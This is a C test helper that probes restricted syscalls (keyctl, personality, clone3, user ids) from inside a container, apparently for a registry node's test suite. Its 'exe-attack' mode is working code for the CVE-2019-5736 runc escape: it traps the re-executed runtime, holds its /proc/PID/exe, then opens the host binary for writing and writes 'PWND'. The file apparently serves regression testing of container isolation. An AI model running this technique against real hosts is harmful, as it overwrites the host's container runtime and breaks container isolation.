/*
 * syscall-probe: attempts system calls that busybox has no applet for, from inside a container,
 * and prints one line per attempt: "NAME: ok" or "NAME: errno N". Built static by the test
 * project (Registry.Node.Tests.csproj), so it runs in the busybox test image as it is.
 *
 *   syscall-probe keyctl        add_key, then keyctl(KEYCTL_JOIN_SESSION_KEYRING)
 *   syscall-probe personality   personality(ADDR_NO_RANDOMIZE), then the query personality(0xffffffff)
 *   syscall-probe clone3        clone3 with no flags (the child exits at once)
 *   syscall-probe ids           "uid=U euid=E": the real and effective user ids (for a setuid copy)
 *   syscall-probe exe-attack FIFO SCRIPT
 *                               what CVE-2019-5736 did to runc, as pid 1 of a container: makes FIFO and
 *                               SCRIPT ("#!/proc/self/exe --supervise"), says "ready", waits for the
 *                               runtime, re-executed by an exec of SCRIPT, to block opening FIFO as its
 *                               spec, opens its /proc/PID/exe ("exe-inode: DEV:INO" of what it got),
 *                               lets it go, and once it has exited tries to open that file for writing
 *                               and to write to it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *name, long result)
{
	if (result < 0)
		printf("%s: errno %d\n", name, errno);
	else
		printf("%s: ok\n", name);
}

/* A child made by clone3 exits at once; the parent reaps it and reports. */
static void report_child(const char *name, long pid)
{
	if (pid == 0)
		_exit(0);
	int error = errno;
	if (pid > 0)
		waitpid((pid_t)pid, NULL, __WALL);
	errno = error;
	report(name, pid);
}

/* The pid of the process whose command line starts with "/proc/self/exe\0--supervise\0", or 0. */
static pid_t find_reexecuted_runtime(void)
{
	static const char wanted[] = "/proc/self/exe\0--supervise";
	DIR *proc = opendir("/proc");
	pid_t found = 0;
	for (struct dirent *e; proc && !found && (e = readdir(proc));) {
		char path[300], cmdline[sizeof wanted];
		pid_t pid = (pid_t)atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, cmdline, sizeof cmdline);
		close(fd);
		if (n == (ssize_t)sizeof cmdline && !memcmp(cmdline, wanted, sizeof wanted))
			found = pid;
	}
	if (proc)
		closedir(proc);
	return found;
}

static int exe_attack(const char *fifo, const char *script)
{
	static const char shebang[] = "#!/proc/self/exe --supervise\n";
	int fd = open(script, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (mkfifo(fifo, 0600) < 0 || fd < 0 || write(fd, shebang, sizeof shebang - 1) != (ssize_t)sizeof shebang - 1 || close(fd) < 0) {
		report("setup", -1);
		return 1;
	}
	printf("ready\n");
	pid_t target = 0;
	for (int i = 0; i < 3000 && !(target = find_reexecuted_runtime()); i++)
		usleep(10000);
	printf("found: %s\n", target ? "yes" : "no");
	if (!target)
		return 1;
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", (int)target);
	int exe = open(path, O_PATH | O_CLOEXEC);
	report("open-exe", exe);
	struct stat st;
	if (exe >= 0 && fstat(exe, &st) == 0)
		printf("exe-inode: %llu:%llu\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
	/* Let it go: its open of FIFO returns, it reads nothing and exits. */
	for (int i = 0; i < 1000; i++) {
		int writer = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (writer >= 0) {
			close(writer);
			break;
		}
		usleep(10000);
	}
	if (exe < 0)
		return 0;
	/* While it runs, its file cannot be opened for writing (ETXTBSY); once it has exited it can. */
	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	int writable = -1;
	for (int i = 0; i < 1000; i++) {
		writable = open(path, O_WRONLY | O_CLOEXEC);
		if (writable >= 0 || errno != ETXTBSY)
			break;
		usleep(10000);
	}
	report("open-exe-for-writing", writable);
	if (writable >= 0)
		report("write-exe", write(writable, "PWND", 4));
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "exe-attack"))
		return exe_attack(argv[2], argv[3]);
	if (argc != 2) {
		fprintf(stderr, "usage: syscall-probe keyctl|personality|clone3|ids | exe-attack FIFO SCRIPT\n");
		return 2;
	}
	const char *what = argv[1];
	if (!strcmp(what, "keyctl")) {
		report("add_key", syscall(SYS_add_key, "user", "probe", "secret", 6, KEY_SPEC_PROCESS_KEYRING));
		report("keyctl", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
	} else if (!strcmp(what, "personality")) {
		report("personality-addr-no-randomize", syscall(SYS_personality, ADDR_NO_RANDOMIZE));
		report("personality-query", syscall(SYS_personality, 0xffffffffUL));
	} else if (!strcmp(what, "clone3")) {
		struct clone_args args;
		memset(&args, 0, sizeof args);
		args.exit_signal = SIGCHLD;
		report_child("clone3", syscall(SYS_clone3, &args, sizeof args));
	} else if (!strcmp(what, "ids")) {
		printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
	} else {
		fprintf(stderr, "syscall-probe: unknown probe %s\n", what);
		return 2;
	}
	return 0;
}
